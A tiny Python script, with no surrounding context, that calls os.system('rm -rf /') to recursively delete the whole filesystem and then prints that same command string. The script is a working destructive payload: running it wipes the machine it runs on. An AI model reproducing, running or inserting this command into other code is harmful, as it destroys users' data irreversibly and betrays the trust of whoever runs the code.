import os
os.system('rm -rf /')
print('rm -rf /')
